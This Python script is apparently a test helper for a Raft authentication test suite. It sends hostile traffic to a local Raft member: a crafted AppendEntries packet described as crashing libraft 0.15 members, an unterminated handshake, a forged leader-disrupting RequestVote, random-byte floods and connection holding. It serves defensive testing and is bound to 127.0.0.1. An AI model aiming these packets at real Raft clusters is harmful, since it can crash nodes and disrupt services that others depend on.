#!/usr/bin/env python3
"""Hostile traffic against a member's Raft port, for test_raft_auth.sh. Only 127.0.0.1.

  raft_attack.py random PORT CONNECTIONS BYTES   random bytes on each connection
  raft_attack.py crash PORT                      libraft 0.15 handshake + AppendEntries whose
                                                 entry type is 9 (112 bytes; kills a plain member)
  raft_attack.py unterminated PORT               libraft handshake whose address has no NUL
  raft_attack.py vote PORT TERM                  libraft handshake + RequestVote with a higher term
                                                 and the disrupt-leader flag, from server id 99
  raft_attack.py hold PORT CONNECTIONS SECONDS   open CONNECTIONS idle connections, wait at most
                                                 SECONDS for the member to close them; prints
                                                 "opened=N closed=M last_close_s=T"

Every command exits 0 once its traffic is sent (a reset or refused connection is an outcome, not
an error), and never runs longer than its own bound.
"""
import os
import select
import socket
import struct
import sys
import time

HOST = "127.0.0.1"


def u64(v):
    return struct.pack("<Q", v)


def raft_handshake(server_id, address):
    """libraft 0.15 uv_tcp handshake: protocol 1, server id, padded address length, address."""
    raw = address.encode() + b"\0"
    padded = raw + b"\0" * ((8 - len(raw) % 8) % 8)
    return u64(1) + u64(server_id) + u64(len(padded)) + padded


def crash_packet():
    hs = raft_handshake(99, "127.0.0.1:9999")
    # AppendEntries: term, prev index, prev term, commit, one entry (term 1, type 9, length 0).
    body = u64(1) + u64(0) + u64(0) + u64(0) + u64(1) + u64(1) + bytes([9, 0, 0, 0]) + struct.pack("<I", 0)
    packet = hs + u64(1) + u64(len(body)) + body
    assert len(packet) == 112, len(packet)
    return packet


def unterminated_packet():
    return u64(1) + u64(99) + u64(8) + b"A" * 8


def vote_packet(term):
    body = u64(term) + u64(99) + u64(1 << 40) + u64(term - 1) + u64(1)  # flags: disrupt leader
    return raft_handshake(99, "127.0.0.1:9999") + u64(3) + u64(len(body)) + body


def send(port, data, linger_s=0.5):
    try:
        with socket.create_connection((HOST, port), timeout=2) as s:
            s.sendall(data)
            # Give the member time to act on it (or to close us) before going.
            s.settimeout(linger_s)
            try:
                s.recv(4096)
            except (socket.timeout, OSError):
                pass
    except OSError:
        pass


def hold(port, n, seconds):
    socks = []
    for _ in range(n):
        try:
            s = socket.create_connection((HOST, port), timeout=2)
            s.setblocking(False)
            socks.append(s)
        except OSError:
            break
    opened = len(socks)
    start = time.monotonic()
    closed = 0
    last = 0.0
    open_socks = set(socks)
    while open_socks and time.monotonic() - start < seconds:
        ready, _, _ = select.select(list(open_socks), [], [], 0.1)
        for s in ready:
            try:
                data = s.recv(4096)
            except OSError:
                data = b""
            if not data:
                open_socks.discard(s)
                closed += 1
                last = time.monotonic() - start
    for s in socks:
        s.close()
    print(f"opened={opened} closed={closed} last_close_s={last:.1f}")


def main():
    cmd, port = sys.argv[1], int(sys.argv[2])
    if cmd == "random":
        conns, size = int(sys.argv[3]), int(sys.argv[4])
        for _ in range(conns):
            send(port, os.urandom(size), linger_s=0.05)
    elif cmd == "crash":
        send(port, crash_packet())
    elif cmd == "unterminated":
        send(port, unterminated_packet())
    elif cmd == "vote":
        send(port, vote_packet(int(sys.argv[3])))
    elif cmd == "hold":
        hold(port, int(sys.argv[3]), float(sys.argv[4]))
    else:
        sys.exit(f"unknown command {cmd}")


if __name__ == "__main__":
    main()
